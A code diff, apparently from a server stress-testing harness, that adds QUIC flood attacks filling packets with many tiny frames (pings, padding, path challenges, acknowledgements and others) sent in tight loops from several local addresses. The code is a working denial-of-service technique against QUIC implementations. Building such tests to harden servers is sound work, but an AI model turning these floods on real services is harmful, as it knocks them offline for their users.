@@ -8,9 +8,11 @@ import itertools
 import os
 import socket
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from aioquic.quic.connection import QuicConnection
+from aioquic.quic.packet import QuicFrameType
+from aioquic.quic.packet_builder import QuicPacketBuilder
 
 from attackers.quic_user import QuicUser, configuration, reach
 from attackers.users import Place, attack, crowd, everybody_floods
@@ -140,3 +142,50 @@ async def _first_packets(place: Place) -> None:
             _throw(sock, packet[:6] + os.urandom(8) + packet[14:])  # for another name: not to be decrypted
             if time.monotonic() > over:
                 return
+
+
+def _frames(name: str, frames: bytes | Callable[[int], bytes]) -> None:
+    """Attack with packets full of small frames (RFC 9000, section 19): few bytes that take long to look at."""
+
+    async def flood(place: Place, source: str) -> None:
+        link = await reach(place, source)
+        stream = link.open_stream()[0]
+        some = frames if isinstance(frames, bytes) else frames(stream)
+
+        def many(builder: QuicPacketBuilder, *_: object, **_more: object) -> None:
+            buffer = builder.start_frame(QuicFrameType.PING, capacity=1)
+            room = min(builder.remaining_buffer_space, builder.remaining_flight_space)
+            buffer.push_bytes(some * (room // len(some)))
+
+        link.quic._write_ping_frame = many
+        try:
+            for number in itertools.count():
+                link.quic.send_ping(number)
+                link.transmit()
+                await asyncio.sleep(0 if number % 8 else 0.001)
+                if link.over:
+                    return
+        finally:
+            link.leave()
+
+    @attack(f"packets over quic, full of {name}")
+    async def _run(place: Place) -> None:
+        async def again_and_again(source: str) -> None:
+            with contextlib.suppress(TimeoutError):
+                async with asyncio.timeout(place.seconds):
+                    while True:
+                        with contextlib.suppress(OSError):
+                            await flood(place, source)
+                        await asyncio.sleep(0)
+
+        await asyncio.gather(*(again_and_again(f"127.0.0.{2 + number}") for number in range(4)))
+
+
+_frames("pings", b"\x01")
+_frames("padding between pings", b"\x00\x01")
+_frames("limits", b"\x10\x3f")
+_frames("empty datagrams", b"\x31\x00")
+_frames("questions about the path", b"\x1a" + bytes(8))
+_frames("empty stream frames", lambda stream: bytes((0x0A, stream, 0)))
+_frames("acknowledgements", b"\x02\x01\x00\x00\x00")
+_frames("complaints about limits", b"\x14\x3f")
